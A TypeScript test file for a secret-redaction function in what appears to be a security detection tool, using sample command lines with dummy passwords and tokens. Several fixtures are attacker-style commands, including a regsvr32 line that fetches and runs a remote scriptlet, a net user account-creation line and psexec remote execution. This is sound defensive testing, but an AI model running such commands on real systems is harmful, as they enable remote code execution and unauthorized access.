import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { millis } from "../../test/support/cost.ts";
import { aFinding, HOSTILE } from "../../test/support/finding.ts";
import { redact, redactFinding } from "./redact.ts";

describe("redact", () => {
  it.each([
    ["mysqldump -uroot -pS3cret! db", "mysqldump -uroot -p*** db"],
    ["sshpass -p hunter22 ssh a@b", "sshpass -p *** ssh a@b"],
    ["tool --password=Winter24 x", "tool --password=*** x"],
    ["tool --password Winter24 x", "tool --password *** x"],
    ["plink -l bob -pw Winter24 host", "plink -l bob -pw *** host"],
    ["cmdkey /add:srv /user:bob /pass:Winter24", "cmdkey /add:srv /user:bob /pass:***"],
    ['x /password:"two words" y', 'x /password:"***" y'],
    ["curl -u bob:Winter24 https://h/", "curl -u bob:*** https://h/"],
    ["curl --user bob:Winter24 https://h/", "curl --user bob:*** https://h/"],
    ["git clone https://bob:Winter24@h/r.git", "git clone https://bob:***@h/r.git"],
    ["git clone https://0123456789abcdef0123@h/r.git", "git clone https://***@h/r.git"],
    ["net use Z: \\\\srv\\share Winter24 /user:corp\\bob", "net use Z: \\\\srv\\share *** /user:corp\\bob"],
    ["net use \\\\srv\\share /user:corp\\bob Winter24", "net use \\\\srv\\share /user:corp\\bob ***"],
    ["net user bob Winter24 /add", "net user bob *** /add"],
    ["net.exe user bob Winter24", "net.exe user bob ***"],
    ['curl -H "Authorization: Bearer abcdef0123456789"', 'curl -H "Authorization: Bearer ***"'],
    ["curl -H 'Authorization: Basic Ym9iOndpbnRlcg=='", "curl -H 'Authorization: Basic ***'"],
    ["AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENG aws s3 ls", "AWS_SECRET_ACCESS_KEY=*** aws s3 ls"],
    ["aws configure set x AKIAIOSFODNN7EXAMPLE", "aws configure set x ***"],
    ["export GITHUB_TOKEN=ghp_0123456789abcdefghij0123456789abcdef", "export GITHUB_TOKEN=***"],
    ["psexec \\\\srv -u corp\\bob -p Winter24 cmd", "psexec \\\\srv -u corp\\bob -p *** cmd"],
    ["schtasks /create /s srv /u bob /p Winter24 /tn t", "schtasks /create /s srv /u bob /p *** /tn t"],
    ["ConvertTo-SecureString 'Winter24' -AsPlainText -Force", "ConvertTo-SecureString '***' -AsPlainText -Force"],
    ["openssl enc -pass pass:Winter24 -in a", "openssl enc -pass *** -in a"],
    ["Server=db;User Id=sa;Password=Winter24;", "Server=db;User Id=sa;Password=***;"],
    ["https://h/b?sv=1&sig=abc%2Bdef&x=1", "https://h/b?sv=1&sig=***&x=1"],
    ["openssl rsa -passin pass:Winter24", "openssl rsa -passin pass:***"],
    ["7z x -pWinter24 a.7z", "7z x -p*** a.7z"],
    ["ldapsearch -D cn=x -w Winter24 -b dc=y", "ldapsearch -D cn=x -w *** -b dc=y"],
  ])("%s", (input, output) => expect(redact(input)).toBe(output));

  it.each([
    "mkdir -p /var/lib/x",
    "cp -p a b",
    "ssh -p 2222 host",
    "docker run -p 8080:80/tcp nginx",
    "nmap -p 1-1000 host",
    "rundll32.exe shell32.dll,Control_RunDLL x.cpl",
    "regsvr32 /s /u /i:http://h/a.sct scrobj.dll",
    "net use",
    "net user bob /delete",
    "net use Z: \\\\srv\\share",
    "type C:\\passwords\\readme.txt",
    "passwd --help",
  ])("leaves alone what is no secret: %s", (input) => expect(redact(input)).toBe(input));

  it("changes nothing the second time", () => {
    const part = fc.constantFrom(
      "-p ",
      "--password=",
      "secret",
      "token: ",
      "-u a:b",
      "net use \\\\s\\t ",
      '"',
      "'",
      " ",
      "x",
      ...HOSTILE,
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 12 }), (parts) => {
        const once = redact(parts.join(""));
        expect(redact(once).length).toBeLessThanOrEqual(once.length + 3);
      }),
    );
  });

  it("takes time in proportion to the text", () => {
    for (const part of ["a", "-p ", "net use ", "password", "://", "token=", "-", "/user:", "a:"]) {
      const text = part.repeat(200_000 / part.length);
      expect(
        millis(() => redact(text), 4000),
        part,
      ).toBeLessThan(4000);
    }
  });
});

describe("redactFinding", () => {
  it("masks a secret wherever it was carried to", () => {
    const finding = aFinding({
      commandLine: "psexec \\\\srv -u bob -p Winter24 cmd",
      canonical: "psexec.exe \\\\srv -u bob -p Winter24 cmd",
      runs: [{ what: "command", where: "inline", value: "cmd Winter24", args: ["Winter24", "x"], remote: false }],
      evidence: [{ id: "a", points: 1, text: "The argument “Winter24” is new.", events: [] }],
    });
    expect(JSON.stringify(redactFinding(finding))).not.toContain("Winter24");
  });

  it("leaves a finding without secrets as it is", () => {
    expect(redactFinding(aFinding())).toEqual(aFinding());
  });
});
